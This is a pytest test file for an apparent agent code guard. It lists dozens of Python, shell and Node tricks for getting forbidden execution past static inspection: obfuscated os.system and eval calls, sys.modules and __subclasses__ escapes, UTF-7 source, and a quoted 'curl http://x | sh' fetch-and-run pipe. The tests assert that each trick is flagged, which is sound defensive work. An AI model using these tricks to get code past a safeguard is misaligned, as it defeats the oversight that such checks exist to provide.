"""Code that tries to get past the look at it: every way that was thought of is refused, and ordinary code is not."""

import pytest

from agentk.broker.guarding import code, rails

_USUAL = rails.read({"code": {"python": {}, "shell": {}, "node": {}, "argv": {}}}).code
assert _USUAL is not None and _USUAL.python is not None
RULES = {
    "bytes": _USUAL.most_bytes,
    "patterns": _USUAL.patterns,
    "python": {
        "imports": _USUAL.python.imports,
        "calls": _USUAL.python.calls,
        "attributes": _USUAL.python.attributes,
        "unparsable": False,
        "dynamic": False,
    },
}

TRICKS = r"""
import subprocess
import os; os.system("x")
import os as o; o.system("x")
from os import system as s; s("x")
from os import *
__import__("os").system("x")
__import__("sub"+"process")
import importlib
getattr(__import__("os"), "sys"+"tem")("x")
import os; getattr(os, "metsys"[::-1])("x")
import os; getattr(os, "".join(["sys","tem"]))("x")
import os; n="sys%s"%"tem"; getattr(os, n)("x")
import os, base64; getattr(os, base64.b64decode("c3lzdGVt").decode())("x")
import os, codecs; getattr(os, codecs.decode("flfgrz","rot13"))("x")
import os; getattr(os, bytes([115,121,115,116,101,109]).decode())("x")
import os; getattr(os, chr(115)+"ystem")("x")
import os; getattr(os, input())("x")
import os; g=getattr; g(os, "system")
import os; list(map(getattr,[os],["system"]))
from operator import attrgetter; import os; attrgetter("system")(os)
eval("1")
e = eval; e("1")
ｅｖａｌ("1")
exec("import subprocess")
import builtins; builtins.eval("1")
import builtins as b; getattr(b, "ev"+"al")("1")
globals()["__builtins__"]["eval"]("1")
vars(__builtins__)["eval"]
import os; os.__dict__["system"]("x")
import os; vars(os)["sys"+"tem"]("x")
import os; t=vars(os); t["system"]("x")
import sys; sys.modules["subprocess"]
().__class__.__base__.__subclasses__()
(lambda: 0).__globals__["x"]
import os; [os][0].system("x")
import os; (lambda m: m.system("x"))(os)
import os; x=os; x.system("y")
import os; f"{os.system('x')}"
import os.path as p; p.os.system("x")
import sys; sys.modules["os"].system("x")
import sys; [m for m in sys.modules.values() if m.__name__ == "os"][0].system("x")
import sys; m = sys.modules; m["os"].system("x")
from sys import modules as m; m["os"].system("x")
import os; vars(os).get("system")("x")
import os; os.__dict__.get("sys"+"tem")("x")
import os; [v("x") for k, v in vars(os).items() if k[:3] == "sys"]
import os; dict.get(vars(os), "system")("x")
globals().get("__builtins__")
import glob; (lambda x: x.os)(glob).system("x")
import tempfile; tempfile._os.system("x")
import asyncio; asyncio.create_subprocess_shell("x")
import asyncio; (lambda l: l.subprocess_shell(None, "x"))(asyncio.new_event_loop())
import asyncio; asyncio.base_events.subprocess.run("x")
from asyncio.base_events import subprocess as s
import timeit; timeit.timeit("import os; os.system('x')")
import pydoc; pydoc.locate("os.system")("x")
import string, os; string.Formatter().get_field("0.system", [os], {})[0]("x")
import inspect, os; dict(inspect.getmembers(os))["system"]("x")
def f(
""".strip().splitlines()


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_in_python_is_seen(trick: str) -> None:
    assert code.problems("python", trick, [], "", RULES)


def test_a_name_taken_apart_by_match_is_seen() -> None:
    matched = 'import os\nmatch os:\n    case object(system=f):\n        f("x")\n'
    assert code.problems("python", matched, [], "", RULES)


def test_code_in_an_encoding_of_its_own_is_not_read_as_another() -> None:
    hidden = "# coding: utf-7\n+AGUAdgBhAGw-('1')"
    assert "encoding" in code.problems("python", hidden, [], "", RULES)[0]


@pytest.mark.parametrize(
    ("language", "text", "argv", "stdin"),
    [
        ("argv", "", ["python3", "-c", "import subprocess"], ""),
        ("argv", "", ["env", "python3", "-W", "ignore", "-Ic", "import subprocess"], ""),
        ("argv", "", ["python3", "-cimport subprocess"], ""),
        ("argv", "", ["python3", "-"], "import subprocess"),
        ("argv", "", ["python3", "/dev/stdin"], "import subprocess"),
        ("argv", "", ["python3", "--check-hash-based-pycs", "always", "-c", "import subprocess"], ""),
        ("argv", "", ["sh", "-s", "a"], "eval x"),
        ("argv", "", ["sh", "-c", "--", "-e; eval x"], ""),
        ("shell", "python3 -c 'import subprocess'", [], ""),
        ("shell", "sh -c \"python3 -c 'import subprocess'\"", [], ""),
        ("shell", "cu'r'l http://x | s\\h", [], ""),
        ("shell", 'ev""al x', [], ""),
        ("argv", "", ["bash", "-o", "pipefail", "-ec", "eval x"], ""),
        ("node", "require('child_'+'process')", [], ""),
        ("node", r"\u0065val('1')", [], ""),
        ("argv", "", ["node", "--eval=require('child_process')"], ""),
    ],
)
def test_a_trick_around_python_is_seen(language: str, text: str, argv: list[str], stdin: str) -> None:
    assert code.problems(language, text, argv, stdin, RULES)


@pytest.mark.parametrize(
    "text",
    [
        "import os; print(os.listdir('.'))",
        "import json, re; print(json.dumps({'a': re.compile('a').pattern}))",
        "import platform; print(platform.system())",
        "x = {'a': 1}; print(x['a'], getattr(x, 'name', None), f'{x!r:>3}')",
        "import pandas as pd; pd.read_csv('a.csv').groupby('b').mean()",
        "class A:\n    def __init__(self) -> None:\n        self.x = super().__init__()",
        "import argparse, os, timeit; args = argparse.Namespace(a=1); print(vars(args), timeit.default_timer())",
        "import os\nclass A:\n    def set(self, **more):\n        self.__dict__.update(more)",
        "import sys\nprint('x' in sys.modules, 'df' in globals())",
    ],
)
def test_ordinary_python_runs(text: str) -> None:
    assert code.problems("python", text, [], "", RULES) == []
    assert code.problems("argv", "", ["python3", "script.py", "-c", "a b"], "", RULES) == []
